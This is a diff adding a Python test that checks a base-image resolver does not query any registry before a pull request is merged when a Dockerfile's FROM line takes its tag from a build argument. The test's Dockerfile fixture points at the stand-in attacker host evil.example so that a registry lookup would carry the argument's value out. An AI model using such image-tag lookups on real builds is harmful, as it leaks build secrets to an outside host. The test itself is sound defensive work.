@@ -105,3 +105,15 @@ def test_one_image_that_nobody_knows_leaves_other_bases_alone(base: Base) -> Non
     prints, notes = printed(world, base, other)
     assert prints == [standing_on(of_base(base), {"one:1": "sha256:1"}), of_base(other)]
     assert len(notes) == 1
+
+
+def test_before_the_merge_no_host_is_told_what_a_build_argument_brings(base: Base) -> None:
+    base.dockerfile.write_text("ARG T\nFROM evil.example/x:${T}\n")
+    armed = replace(base, build_args={"T": "what-a-variable-holds"})
+    world = World(registries={"evil.example/x:what-a-variable-holds": "sha256:1"})
+    _, notes = printed(world, armed, unmerged="a pull request")
+    assert world.asked == []
+    assert "named by a build argument" in notes[0]
+    assert "what-a-variable-holds" not in notes[0]
+    printed(world, armed)
+    assert world.asked == ["registry evil.example/x:what-a-variable-holds"]
